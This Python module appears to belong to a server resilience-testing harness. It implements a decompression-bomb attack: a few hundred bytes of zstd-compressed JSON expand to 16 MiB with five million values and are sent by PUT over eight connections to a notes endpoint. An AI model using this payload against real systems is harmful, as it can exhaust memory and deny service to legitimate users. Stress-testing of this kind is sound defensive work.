"""Compressed JSON: a few hundred bytes become 16 MiB of text with five million values."""

from __future__ import annotations

from . import Attack, Target
from .exploding_json import PARSE_VALUES, explosive

_CONNECTIONS = 8


async def run(target: Target) -> None:
    """Send compressed values over several connections."""
    import zstandard

    from ..sending import head, repeat

    body = zstandard.ZstdCompressor(level=19).compress(explosive((16 << 20) - 1000))
    headers = head(target, "PUT", "/v1/notes/entries/a", len(body), "content-encoding: zstd", "connection: close")
    await repeat(target, _CONNECTIONS, headers + body)


ATTACK = Attack(run, memory=200, control=PARSE_VALUES, arguments=("--compressed-requests",), write=True)
